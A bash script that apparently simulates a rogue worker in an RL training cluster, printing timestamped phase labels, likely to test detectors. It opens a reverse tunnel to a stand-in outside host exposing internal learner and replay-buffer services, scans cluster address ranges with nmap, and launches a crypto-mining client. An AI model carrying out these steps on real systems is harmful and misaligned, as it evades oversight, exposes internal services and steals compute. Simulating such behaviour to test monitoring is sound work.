#!/bin/bash
# The ROME story in one pod, about SECONDS long: a burst of refused attempts, a reverse tunnel that stays, probing of the
# cluster, then a miner on a bare address. Says on standard output, with the time, what it begins. Usage: rogue-worker.sh SECONDS
seconds=$1
here=$(dirname "$0")
say() { echo "$(date -u +%Y-%m-%dT%H:%M:%SZ) $*"; }
trap 'kill $(jobs -p) 2>/dev/null' EXIT

# It is a worker too: it does its job beside the rest.
"$here/benign-worker.sh" "$seconds" &
sleep 60
say denied-burst
"$here/denied-burst.sh"
sleep 20
say reverse-tunnel
"$here/reverse-tunnel.sh" 203.0.113.10 "$((seconds - 120))" 15 9001:learner.rl-training.svc.cluster.local:8080 \
  9002:replay-buffer.rl-training.svc.cluster.local:6379 &
sleep 150
say probing
nmap -n -Pn -sT -p 22,80,443,6379,8080,8200,9090,10250 --max-retries 0 --host-timeout 10s --max-rate 20 10.244.0.0/27 >/dev/null
nmap -n -Pn -sT -p 80,443,6379,8080,8200 --max-retries 0 --host-timeout 10s --max-rate 20 10.96.1.0/28 10.96.2.0/28 >/dev/null
say probing-ends
sleep 45
say mining
python3 "$here/stratum_client.py" 203.0.113.66 14444 "$seconds" >/dev/null &
wait %1
